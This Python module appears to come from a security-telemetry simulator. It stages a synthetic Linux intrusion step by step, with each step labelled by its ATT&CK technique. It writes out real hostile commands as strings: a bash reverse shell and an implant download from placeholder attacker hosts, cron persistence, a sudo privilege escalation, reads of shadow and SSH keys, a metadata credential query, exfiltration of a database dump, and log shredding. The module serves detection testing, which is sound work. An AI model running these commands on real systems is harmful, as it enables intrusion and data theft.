"""Through a hole in a web application into a Linux server, and what the visitor does there by hand."""

from dataclasses import dataclass
from random import Random

from vedette.simulation.telemetry.envelope import emit_message
from vedette.simulation.telemetry.linux import linux_session, log_on_by_key, spawn, spawn_for
from vedette.simulation.telemetry.network import Endpoint, accept, connect, device_endpoint
from vedette.simulation.telemetry.objects import create_file
from vedette.simulation.world import Device, Process, Session, World

VISITOR = Endpoint("static.lantern-cdn.example", "203.0.113.41", 4443)
TOOLS = Endpoint("files.lantern-cdn.example", "203.0.113.42", 80)
DROP_SITE = Endpoint("up.lantern-cdn.example", "198.51.100.91", 443)
_HIDDEN = "/dev/shm/.x"  # noqa: S108 - the intruder's choice
_QUESTIONS = (
    ("/usr/bin/id", "id"),
    ("/usr/bin/uname", "uname -a"),
    ("/usr/bin/cat", "cat /etc/passwd"),
    ("/usr/bin/ss", "ss -ltnp"),
    ("/usr/bin/ip", "ip addr"),
    ("/usr/bin/ps", "ps auxf"),
)


@dataclass(slots=True, eq=False)
class Prompt:
    """A shell under remote control on a Linux device, and the moment at which the hands are free again."""

    world: World
    chance: Random
    shell: Process
    at: float

    @property
    def device(self) -> Device:
        return self.shell.device

    def think(self) -> float:
        """Let time pass as between two commands; gives the new moment."""
        self.at += self.chance.triangular(3, 40, 12)
        return self.at

    def type(self, image: str, command_line: str, *, seconds: float = 0.3) -> Process:
        """Enter a command, and wait for its end."""
        process = spawn_for(self.world, self.shell, image, command_line, self.think(), seconds=seconds)
        self.at += seconds
        return process


def exploit_upload(world: World, server: Device, at: float) -> Process:
    """The visitor uploads a script through the application and calls it. Gives the first shell."""
    pool = server.residents["php-fpm"]
    script = "/var/www/ledger/uploads/logo.php"
    remember(world, pool.session)
    with world.step("A script is uploaded through the web application", "initial-access", "T1190", "T1505.003"):
        _accept_from_outside(world, server, at)
        create_file(world, pool, script, at + 0.4)
    with world.step("The script answers its first questions", "discovery", "T1033", "T1082"):
        for number, command in enumerate(("id", "uname -a", "whoami")):
            _accept_from_outside(world, server, at + 30 + 12 * number)
            asked = spawn(world, pool, "/usr/bin/dash", f"sh -c {command}", at + 30.2 + 12 * number)
            spawn_for(world, asked, f"/usr/bin/{command.split()[0]}", command, at + 30.3 + 12 * number)
    with world.step("A shell connects to the visitor", "execution", "T1059.004", "T1095"):
        command = f"sh -c bash -c 'bash -i >& /dev/tcp/{VISITOR.address}/{VISITOR.port} 0>&1'"
        first = spawn(world, pool, "/usr/bin/dash", command, at + 95)
        shell = spawn(world, first, "/usr/bin/bash", "bash -i", at + 95.1)
        connect(world, shell, VISITOR, at + 95.2)
    return shell


def look_around(prompt: Prompt) -> None:
    """Questions of a visitor, then the search for a way to root."""
    world = prompt.world
    with world.step("Questions about the server", "discovery", "T1033", "T1082", "T1016", "T1049", "T1057"):
        for image, command in _QUESTIONS:
            prompt.type(image, command)
    with world.step("Programs that run as root are searched", "discovery", "T1083", "T1548.001"):
        prompt.type("/usr/bin/find", "find / -perm -4000 -type f", seconds=6)


def become_root(prompt: Prompt) -> Prompt:
    """A rule of sudo allows too much. Gives a prompt of root."""
    world, session = prompt.world, linux_session(prompt.device, "root", prompt.at)
    remember(world, session)
    with world.step("A tool allowed by sudo gives a shell of root", "privilege-escalation", "T1548.003"):
        at, call = prompt.think(), "/usr/bin/find . -exec /bin/sh -p ; -quit"
        emit_message(world, prompt.device, at, "sudo", f"www-data : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND={call}")
        sudo = spawn(world, prompt.shell, "/usr/bin/sudo", f"sudo {call}", at + 0.02, session=session)
        find = spawn(world, sudo, "/usr/bin/find", call, at + 0.05)
        shell = spawn(world, find, "/usr/bin/dash", "/bin/sh -p", at + 0.1)
    return Prompt(world, prompt.chance, shell, at + 1)


def settle(prompt: Prompt) -> None:
    """An implant in shared memory, a cron line and a key."""
    world, implant = prompt.world, f"{_HIDDEN}/kd"
    with world.step("The shell stops to remember", "stealth", "T1070.003"):
        prompt.type("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history")
    with world.step("A program is fetched into shared memory", "command-and-control", "T1105"):
        fetch = prompt.type("/usr/bin/curl", f"curl -so {implant} http://{TOOLS.address}/kd", seconds=2)
        connect(world, fetch, TOOLS, prompt.at - 1.8)
        create_file(world, fetch, implant, prompt.at - 1)
        prompt.type("/usr/bin/chmod", f"chmod +x {implant}")
    with world.step("The program runs and calls home", "command-and-control", "T1059.004", "T1571"):
        started = spawn(world, prompt.shell, implant, f"{implant} -c {VISITOR.address}", prompt.think())
        every = (world.seconds - prompt.at) / 9
        for turn in range(8):
            connect(world, started, VISITOR, prompt.at + 1 + every * turn * prompt.chance.uniform(0.9, 1.1))
    with world.step("Cron starts the program again", "persistence", "T1053.003"):
        line = f'sh -c (crontab -l; echo "*/10 * * * * {implant}") | crontab -'
        writer = prompt.type("/usr/bin/dash", line)
        table = spawn_for(world, writer, "/usr/bin/crontab", "crontab -", prompt.at - 0.2)
        create_file(world, table, "/var/spool/cron/crontabs/root", prompt.at - 0.1)
    with world.step("A key is placed for later logons", "persistence", "T1098.004"):
        create_file(world, prompt.shell, "/root/.ssh/authorized_keys", prompt.think())


def steal_secrets(prompt: Prompt) -> None:
    """Password hashes, the deployment's key, and the cloud's credentials."""
    with prompt.world.step("Password hashes and keys are read", "credential-access", "T1003.008", "T1552.004"):
        prompt.type("/usr/bin/cat", "cat /etc/shadow")
        prompt.type("/usr/bin/cat", "cat /home/deploy/.ssh/id_ed25519")
        prompt.type("/usr/bin/cat", "cat /home/deploy/.ssh/known_hosts")
    with prompt.world.step("The cloud's credentials are asked for", "credential-access", "T1552.005"):
        address = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web"
        prompt.type("/usr/bin/curl", f"curl -s {address}", seconds=1)


def move_by_key(prompt: Prompt, target: Device) -> Prompt:
    """With the stolen key to the next server. Gives a prompt there."""
    world, here = prompt.world, prompt.device
    with world.step(f"The stolen key opens {target.name}", "lateral-movement", "T1021.004", "T1078.003"):
        client = spawn(
            world, prompt.shell, "/usr/bin/ssh", f"ssh -i {_HIDDEN}/k deploy@{target.address}", prompt.think()
        )
        connect(world, client, device_endpoint(target, 22), prompt.at + 0.1)
        accept(world, target.residents["sshd"], here, 22, prompt.at + 0.2)
        shell = log_on_by_key(world, target, "deploy", prompt.at + 0.5, source=here.address)
        remember(world, shell.session)
    return Prompt(world, prompt.chance, shell, prompt.at + 2)


def take_database(prompt: Prompt) -> None:
    """Dump, pack, send away, and remove the traces."""
    world, dump = prompt.world, "/var/tmp/.c/l.sql"  # noqa: S108 - the intruder's choice
    with world.step("The database is dumped and packed", "collection", "T1005", "T1560.001", "T1074.001"):
        writer = prompt.type("/usr/bin/pg_dump", f"pg_dump -f {dump} ledger", seconds=40)
        create_file(world, writer, dump, prompt.at - 38)
        packer = prompt.type("/usr/bin/tar", f"tar czf {dump}.tgz {dump}", seconds=15)
        create_file(world, packer, f"{dump}.tgz", prompt.at - 14)
    with world.step("The archive is sent out", "exfiltration", "T1048.002"):
        sender = prompt.type("/usr/bin/curl", f"curl -s -T {dump}.tgz https://{DROP_SITE.address}/u/", seconds=60)
        connect(world, sender, DROP_SITE, prompt.at - 59)
    with world.step("Logs of logons are removed", "defense-impairment", "T1685.006"):
        prompt.type("/usr/bin/shred", "shred -fu /var/log/auth.log")


def remember(world: World, session: Session) -> None:
    """This account is in the intruder's hands."""
    world.intruder_accounts[session.account.qualified] = session.account


def _accept_from_outside(world: World, server: Device, at: float) -> None:
    outside = Device("visitor", "outside", VISITOR.address, server.owner, "00000000", server.numbers)
    accept(world, server.residents["nginx"], outside, 443, at)
